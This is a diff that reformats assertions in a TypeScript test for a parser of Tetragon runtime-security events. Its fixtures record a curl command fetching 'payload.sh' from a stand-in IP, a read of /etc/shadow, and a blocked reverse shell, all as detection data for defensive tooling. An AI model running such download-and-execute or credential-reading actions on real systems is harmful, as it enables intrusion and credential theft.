@@ -28,15 +28,27 @@ describe('tetragon parser', () => {
       observedAt: '2026-11-23T09:40:00.100000000Z',
     });
     expect(exec.labels['workload.derived']).toBeUndefined();
-    expect(exec.raw).toMatchObject({ binary: '/usr/bin/curl', arguments: '-s http://203.0.113.7/payload.sh', 'parent.binary': '/bin/sh', node_name: 'ip-10-20-3-17' });
+    expect(exec.raw).toMatchObject({
+      binary: '/usr/bin/curl',
+      arguments: '-s http://203.0.113.7/payload.sh',
+      'parent.binary': '/bin/sh',
+      node_name: 'ip-10-20-3-17',
+    });
   });
 
   it('names kprobe findings by policy and function, keeps their tags, and ranks enforced ones higher', () => {
     const [, watch, kill] = batch.findings;
-    expect(watch).toMatchObject({ rule: { id: 'file-monitoring-filtered/security_file_permission', tags: ['observability.filesystem', 'mitre_credential_access', 'process_kprobe'] }, severity: 'medium' });
+    expect(watch).toMatchObject({
+      rule: { id: 'file-monitoring-filtered/security_file_permission', tags: ['observability.filesystem', 'mitre_credential_access', 'process_kprobe'] },
+      severity: 'medium',
+    });
     expect(watch.raw!.args).toEqual([{ file_arg: { path: '/etc/shadow', permission: '-rw-r-----' } }, { int_arg: 4 }]);
     expect(String(watch.raw!.arguments)).toContain('影子');
-    expect(kill).toMatchObject({ severity: 'high', title: 'Reverse shell blocked in prod-shop/checkout', labels: { 'workload.derived': 'deployment name from the pod name' } });
+    expect(kill).toMatchObject({
+      severity: 'high',
+      title: 'Reverse shell blocked in prod-shop/checkout',
+      labels: { 'workload.derived': 'deployment name from the pod name' },
+    });
     expect(String(kill.raw!.arguments).length).toBeGreaterThan(6000);
   });
 
